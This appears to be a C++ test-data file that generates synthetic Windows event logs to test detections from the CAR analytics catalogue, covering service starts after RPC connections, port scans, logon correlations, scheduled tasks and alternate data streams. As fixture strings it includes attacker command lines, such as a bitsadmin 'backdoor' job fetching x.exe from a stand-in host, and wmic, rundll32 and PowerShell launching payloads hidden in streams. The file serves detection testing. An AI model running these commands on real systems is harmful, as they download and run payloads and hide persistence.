// The cases of the catalogue's correlations (joins of two events, counts
// within a window) and of the remaining single-event analytics of services,
// scheduled tasks and alternate data streams.
#include "catalogue_scenarios.hpp"

#include "other_log_events.hpp"

#include "account_audit_events.hpp"
#include "session_audit_events.hpp"

namespace evtxcar::testdata {

namespace {


void car_2013_03_001(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2013-03-001");
    const std::string found = car_label("CAR-2013-03-001", "pseudocode");
    const started shell = log.process(program(cmd_image, cmd_image + R"( /c C:\Tools\setup.cmd)", R"(C:\Tools\installer.exe)"),
                                      "cmd.exe started by an installer", {cmd_label});
    log.process(program(sys32 + "reg.exe", R"(reg.exe QUERY HKLM\Software\Microsoft)"), "reg.exe from that cmd.exe (CAR's test)",
                {found}, {found}, &shell);
    log.next_case();
    const started desktop = log.process(program(cmd_image), "cmd.exe started from the desktop", {cmd_label});
    log.process(program(sys32 + "reg.exe", R"(reg.exe QUERY HKLM\Software\Microsoft)"), "reg.exe from the desktop's cmd.exe",
                none, none, &desktop);
    log.next_case();
    log.process(program(sys32 + "reg.exe", R"(reg.exe QUERY HKLM\Software\Microsoft)", cmd_image),
                "reg.exe from a cmd.exe whose start is not logged", none);
    add_files(out, log, "reg.exe from a cmd.exe an installer started, from the desktop's cmd.exe, from an unknown cmd.exe");
}

void car_2014_02_001(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2014-02-001");
    const std::string found = car_label("CAR-2014-02-001", "pseudocode");
    const started dropper = log.running(R"(C:\Users\tester\dropper.exe)", "dropper.exe", "CORP\\tester");
    const started msiexec = log.running(sys32 + "msiexec.exe", sys32 + "msiexec.exe /V");
    const started services = log.running(sys32 + "services.exe", sys32 + "services.exe");
    const std::string program_path = R"(C:\Program Files\Vendor\vendorsvc.exe)";
    log.file_create(dropper, program_path, "a service's program replaced by another program", none);
    log.wait_seconds(600);
    log.process(as_system(program(program_path, "\"" + program_path + "\"")), "then run as a service", {found}, none, &services);
    log.next_case();
    const std::string installed = R"(C:\Program Files\Vendor2\updatesvc.exe)";
    log.file_create(msiexec, installed, "a service's program written by the Windows Installer", none);
    log.process(as_system(program(installed, "\"" + installed + "\"")), "then run as a service", none, none, &services);
    add_files(out, log, "a service program written (Sysmon 11) then run by services.exe; the same by msiexec.exe");
}

void car_2014_03_005(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2014-03-005");
    const std::string found = car_label("CAR-2014-03-005", "pseudocode");
    const started services = log.running(sys32 + "services.exe", sys32 + "services.exe");
    log.set_steps(300 * evtx_writer::ticks_per_millisecond, 300 * evtx_writer::ticks_per_millisecond);
    log.flow(services, false, own_ip, 49670, "10.30.5.5", 50321, "services.exe accepts an RPC connection", none, none);
    log.process(as_system(program(R"(C:\Windows\PSEXESVC.exe)", R"(C:\Windows\PSEXESVC.exe)")),
                "and starts a program 0.3 s later", {found}, {found}, &services);
    log.next_case();
    log.flow(services, false, own_ip, 49670, "10.30.5.6", 50400, "services.exe accepts another connection", none, none);
    log.wait_seconds(5);
    log.process(as_system(program(sys32 + "spoolsv.exe", sys32 + "spoolsv.exe")), "and starts a program 5 s later", none, none,
                &services);
    add_files(out, log, "a program started by services.exe within a second of a connection it accepted (Sysmon 3, 1; 5156, 4688); "
                  "and 5 seconds after");
}

void car_2014_05_001(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2014-05-001");
    const std::string found = car_label("CAR-2014-05-001", "pseudocode");
    const started client = log.running(R"(C:\Tools\rpcclient.exe)", "rpcclient.exe", "CORP\\tester");
    log.set_steps(400 * evtx_writer::ticks_per_millisecond, 400 * evtx_writer::ticks_per_millisecond);
    log.flow(client, true, own_ip, 50100, "10.30.2.2", 135, "a connection to the endpoint mapper", none, none);
    log.flow(client, true, own_ip, 50101, "10.30.2.2", 49667, "then to a dynamic port of the same host", {found}, {found});
    log.next_case();
    log.flow(client, true, own_ip, 50102, "10.30.2.2", 135, "the endpoint mapper again", none, none);
    log.flow(client, true, own_ip, 50103, "10.30.2.3", 49668, "then a dynamic port of another host", none, none);
    log.flow(client, true, own_ip, 50104, "10.30.2.2", 445, "and SMB on the first", none, none);
    add_files(out, log, "the endpoint mapper then a dynamic port of the same host, of another host, and SMB");
}

void car_2013_02_008(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2013-02-008");
    const std::string people = car_label("CAR-2013-02-008", "interactive");
    const account machine{"S-1-5-18", "A2013-02-008$", "CORP", 0x3E7};
    logon_details console;
    console.logon_type = 2;
    logon_details cached = console;
    cached.logon_type = 11;
    const logon_details network = network_logon();
    const std::string host = log.audited_host();
    log.security(security_logon(host, log.next_time(), machine, {tester_user_sid, "tester", "CORP", 0x9A0001}, console),
                 "tester logs on at the console", none);
    log.wait_seconds(600);
    log.security(security_logon(host, log.next_time(), machine,
                                {"S-1-5-21-3958402125-1735296127-2840197753-1190", "helpdesk", "CORP", 0x9A0002}, cached),
                 "helpdesk logs on with cached credentials 10 minutes later", {people});
    log.wait_seconds(2 * 3600);
    log.security(security_logon(host, log.next_time(), machine, {tester_user_sid, "tester", "CORP", 0x9A0003}, network),
                 "tester over the network", none);
    log.wait_seconds(300);
    log.security(security_logon(host, log.next_time(), machine, {"S-1-5-20", "NETWORK SERVICE", "NT AUTHORITY", 0x3E4},
                                [] {
                                    logon_details service;
                                    service.logon_type = 5;
                                    service.logon_process = "Advapi  ";
                                    return service;
                                }()),
                 "a service's logon 5 minutes later: not a person", none);
    log.wait_seconds(2 * 3600);
    log.security(security_logon(host, log.next_time(), machine, {tester_user_sid, "tester", "CORP", 0x9A0004}, console),
                 "tester alone", none);
    log.wait_seconds(600);
    log.security(security_logon(host, log.next_time(), machine, {tester_user_sid, "tester", "CORP", 0x9A0005}, console),
                 "tester again 10 minutes later", none);
    add_files(out, log, "two people within 10 minutes; a user and a service; one user twice (Security 4624)");
}

void car_2013_02_012(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2013-02-012");
    const std::string found = car_label("CAR-2013-02-012", "hosts-per-user");
    const logon_details network = network_logon();
    const account nobody{"S-1-0-0", "-", "-", 0};
    const account alice{"S-1-5-21-3958402125-1735296127-2840197753-1201", "alice", "CORP", 0};
    const account bob{"S-1-5-21-3958402125-1735296127-2840197753-1202", "bob", "CORP", 0};
    const account machine{"S-1-5-21-3958402125-1735296127-2840197753-3001", "WS22$", "CORP", 0};
    log.security(security_logon(log.audited_host(), log.next_time(), nobody, alice, network), "alice on A", none);
    log.wait_seconds(3600);
    log.other_security("B", security_logon(log.other_host("B"), log.next_time(), nobody, alice, network), "alice on B", none);
    log.wait_seconds(3600);
    log.other_security("C", security_logon(log.other_host("C"), log.next_time(), nobody, alice, network),
                       "alice on a third host within a day", {found});
    log.wait_seconds(3 * 3600);  // more than an hour between accounts (CAR-2013-02-008)
    log.security(security_logon(log.audited_host(), log.next_time(), nobody, bob, network), "bob on A", none);
    log.other_security("B", security_logon(log.other_host("B"), log.next_time(), nobody, bob, network), "bob on B", none);
    log.wait_seconds(3 * 3600);  // more than an hour between accounts (CAR-2013-02-008)
    log.security(security_logon(log.audited_host(), log.next_time(), nobody, machine, network), "a computer account on A", none);
    log.other_security("B", security_logon(log.other_host("B"), log.next_time(), nobody, machine, network),
                       "the computer account on B", none);
    log.other_security("C", security_logon(log.other_host("C"), log.next_time(), nobody, machine, network),
                       "the computer account on C", none);
    add_files(out, log, "one account on three hosts within a day; one on two; a computer account on three (Security 4624)");
}

void car_2013_04_002(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2013-04-002");
    const std::string found = car_label("CAR-2013-04-002", "pseudocode");
    const started shell = log.process(program(cmd_image), "a command prompt", {cmd_label});
    log.set_steps(20 * evtx_writer::ticks_per_second, 20 * evtx_writer::ticks_per_second);
    log.process(program(sys32 + "ipconfig.exe", "ipconfig /all"), "ipconfig (CAR's test)", {host_discovery}, {host_discovery}, &shell);
    log.process(program(sys32 + "HOSTNAME.EXE", "hostname"), "hostname 20 s later (CAR's test)", {host_discovery, found},
                {host_discovery, found}, &shell);
    log.process(program(sys32 + "systeminfo.exe", "systeminfo"), "systeminfo (CAR's test)", {host_discovery}, {host_discovery},
                &shell);
    log.process(program(sys32 + "reg.exe", R"(reg.exe Query HKLM\Software\Microsoft)"), "reg query (CAR's test)", {found}, {found},
                &shell);
    log.next_case();
    const started other = log.process(program(cmd_image), "another command prompt", {cmd_label});
    log.process(program(sys32 + "ipconfig.exe", "ipconfig"), "ipconfig", {host_discovery}, {host_discovery}, &other);
    log.process(program(sys32 + "ipconfig.exe", "ipconfig /all"), "ipconfig again: one program", {host_discovery},
                {host_discovery}, &other);
    log.wait_seconds(31 * 60);
    log.process(program(sys32 + "HOSTNAME.EXE", "hostname"), "hostname 31 minutes later", {host_discovery}, {host_discovery},
                &other);
    add_files(out, log, "ipconfig, hostname, systeminfo and reg from one shell within a minute; one program twice, another after 31 minutes");
}

void car_2021_01_001(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2021-01-001");
    const std::string splunk = car_label("CAR-2021-01-001", "splunk");
    const std::string target = car_label("CAR-2021-01-001", "per-target");
    const std::string rdp = car_label("CAR-2013-07-002", "start");
    const started scanner = log.running(R"(C:\Tools\nmap\nmap.exe)", "nmap.exe -sT 10.30.3.3", "CORP\\tester");
    log.set_steps(3 * evtx_writer::ticks_per_second, 3 * evtx_writer::ticks_per_second);
    const std::uint16_t ports[] = {21, 22, 23, 25, 80, 110, 139, 443, 445, 1433, 3306, 3389, 5900, 8080, 8443, 9090, 9100};
    std::size_t distinct = 0;
    for (const std::uint16_t port : ports) {
        ++distinct;
        labels expected;
        if (distinct == 6 || distinct == 12) expected.push_back(splunk);
        if (distinct == 16) expected.push_back(target);
        if (port == 3389) expected.push_back(rdp);
        log.flow(scanner, true, own_ip, static_cast<std::uint16_t>(51000 + distinct), "10.30.3.3", port,
                 "scan: port " + std::to_string(port) + " (distinct port " + std::to_string(distinct) + ")", expected, expected);
    }
    log.next_case();
    for (const std::uint16_t port : std::initializer_list<std::uint16_t>{80, 443, 445, 8080, 8443}) {
        log.flow(scanner, true, own_ip, static_cast<std::uint16_t>(52000 + port % 1000), "10.30.3.4", port,
                 "five ports of another host", none, none);
    }
    log.next_case();
    for (const std::uint16_t port : std::initializer_list<std::uint16_t>{21, 22, 23, 25, 80, 110, 139}) {
        log.flow(scanner, true, own_ip, static_cast<std::uint16_t>(53000 + port), "203.0.113.50", port,
                 "seven ports of an outside address", none, none);
    }
    add_files(out, log, "17 ports of one internal host within a minute; 5 ports of another; 7 of an outside address");
}

void car_2021_12_001(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2021-12-001");
    const std::string process = car_label("CAR-2021-12-001", "process");
    const std::string task = car_label("CAR-2021-12-001", "task");
    const std::string schtasks_any = car_label("CAR-2013-08-001", "pseudocode");
    const std::string schtasks_command = car_label("CAR-2013-08-001", "logpoint");
    const std::string schtasks = sys32 + "schtasks.exe";
    log.process(program(schtasks, R"(SCHTASKS /CREATE /SC MINUTE /MO 1 /TN "CALC_TASK" /TR "C:\Windows\System32\calc.exe")"),
                "a task running calc.exe (CAR's test)", {process, schtasks_any, schtasks_command});
    log.next_case();
    log.process(program(schtasks, R"(SCHTASKS /CREATE /SC MINUTE /MO 1 /TN "PING_TASK" /TR "cmd /c ping 8.8.8.8")"),
                "a task running cmd and ping (CAR's test)",
                {process, schtasks_any, schtasks_command, car_label("CAR-2013-07-001", "ip-address")});
    log.next_case();
    log.process(program(schtasks, "SCHTASKS /QUERY /TN CALC_TASK"), "a task queried", {schtasks_any, schtasks_command});
    log.next_case();
    const std::string xml_start =
        R"(<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions Context="Author"><Exec><Command>)";
    const std::string xml_end = "</Command></Exec></Actions></Task>";
    log.security(security_scheduled_task(log.audited_host(), log.next_time(), log.tester(), R"(\Updater)",
                                         xml_start + R"(C:\Users\tester\AppData\Roaming\upd.ps1)" + xml_end, 4698),
                 "a task running a script from AppData (4698)", {task});
    log.security(security_scheduled_task(log.audited_host(), log.next_time(), log.tester(), R"(\Updater)",
                                         xml_start + "powershell" + xml_end, 4702),
                 "the task updated to run powershell (4702)", {task});
    log.security(security_scheduled_task(log.audited_host(), log.next_time(), log.tester(), R"(\Backup)",
                                         xml_start + R"(D:\Backup\backup)" + xml_end, 4698),
                 "a task running a program without an extension from D:", none);
    add_files(out, log, "schtasks /create of calc.exe and of cmd; schtasks /query; tasks registered with a script, updated, and plain "
                  "(4698, 4702)");
}

void car_2021_05_012(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2021-05-012");
    const std::string found = car_label("CAR-2021-05-012", "splunk");
    const std::string host = log.audited_host();
    log.system(service_installed(host, log.next_time(), "WinUpdater", R"(C:\Users\Public\svc\updater.exe)", "LocalSystem"),
               "a service from a user-writable folder (7045)", {found, rare_install});
    service_install from_temp;
    from_temp.name = "tmpsvc";
    from_temp.file_name = R"("C:\Users\tester\AppData\Local\Temp\tmpsvc.exe" -run)";
    log.security(security_service_installed(host, log.next_time(), log.tester(), from_temp),
                 "a service from Temp, quoted, with an argument (4697)", {found, rare_install});
    log.next_case();
    log.system(service_installed(host, log.next_time(), "Vendor Agent", R"("C:\Program Files\Vendor\agent.exe" -service)",
                                 "LocalSystem"),
               "a service from Program Files", {rare_install});
    log.system(service_installed(host, log.next_time(), "Helper", R"(%SystemRoot%\System32\helper.exe)", "LocalSystem"),
               "a service from %SystemRoot%", {rare_install});
    log.system(service_installed(host, log.next_time(), "Data", R"(C:\ProgramData\Vendor\data.exe)", "LocalSystem"),
               "a service from ProgramData", {rare_install});
    add_files(out, log, "services installed from a user folder (7045) and Temp (4697); from Program Files, %SystemRoot%, ProgramData");
}

void car_2020_08_001(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2020-08-001");
    const std::string found = car_label("CAR-2020-08-001", "splunk");
    const std::string powershell = sys32 + R"(WindowsPowerShell\v1.0\powershell.exe)";
    log.process(program(powershell, R"(powershell.exe Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='C:\Users\tester\report.txt:payload.exe'})"),
                "PowerShell creating a process from a stream", {found});
    log.next_case();
    log.process(program(sys32 + R"(wbem\WMIC.exe)", R"(wmic.exe process call create "report.txt:payload.exe")"),
                "wmic creating a process from a stream", {found});
    log.next_case();
    log.process(program(sys32 + "rundll32.exe", R"(rundll32.exe "C:\Users\tester\report.txt:evil.dll",DllMain)"),
                "rundll32 running a DLL from a stream", {found, car_label("CAR-2014-03-006", "pseudocode")});
    log.next_case();
    log.process(program(sys32 + "wscript.exe", R"(wscript.exe C:\Users\tester\report.txt:script.vbs)"),
                "wscript running a script from a stream", {found});
    log.next_case();
    log.process(program(sys32 + "wscript.exe", R"(wscript.exe //e:vbscript C:\Users\tester\script.txt)"),
                "wscript with an engine option", none);
    log.process(program(powershell, R"(powershell.exe -File C:\Users\tester\report.ps1)"), "PowerShell running a file", none);
    add_files(out, log, "PowerShell, wmic, rundll32 and wscript running code from alternate data streams; wscript //e:, powershell -File");
}

void car_2020_08_002(std::vector<scenario_file>& out) {
    catalogue_log log("CAR-2020-08-002");
    const std::string found = car_label("CAR-2020-08-002", "splunk");
    log.process(program(sys32 + "control.exe", R"(control.exe C:\Users\tester\report.txt:evil.dll)"),
                "control.exe loading a DLL from a stream", {found});
    log.next_case();
    log.process(program(sys32 + "ftp.exe", R"(ftp.exe -s:report.txt:commands.txt)"),
                "ftp.exe reading its script from a stream", {found});
    log.next_case();
    log.process(program(sys32 + "bitsadmin.exe",
                        R"(bitsadmin.exe /create backdoor /addfile backdoor http://updates.example.net/x.exe C:\Users\tester\x.exe /SetNotifyCmdLine backdoor C:\Users\tester\report.txt:payload.exe NULL)"),
                "bitsadmin notifying a program in a stream", {found, car_label("CAR-2021-05-004", "pseudocode")});
    log.next_case();
    log.process(program(sys32 + "control.exe", "control.exe desk.cpl"), "control.exe opening an applet", none);
    add_files(out, log, "control.exe, ftp.exe and bitsadmin with alternate data streams; control.exe desk.cpl");
}

}  // namespace

void catalogue_join_cases(std::vector<scenario_file>& out) {
    for (auto cases : {car_2013_02_008, car_2013_02_012, car_2013_03_001, car_2013_04_002, car_2014_02_001, car_2014_03_005,
                       car_2014_05_001, car_2020_08_001, car_2020_08_002, car_2021_01_001, car_2021_05_012, car_2021_12_001}) {
        cases(out);
    }
}

}  // namespace evtxcar::testdata
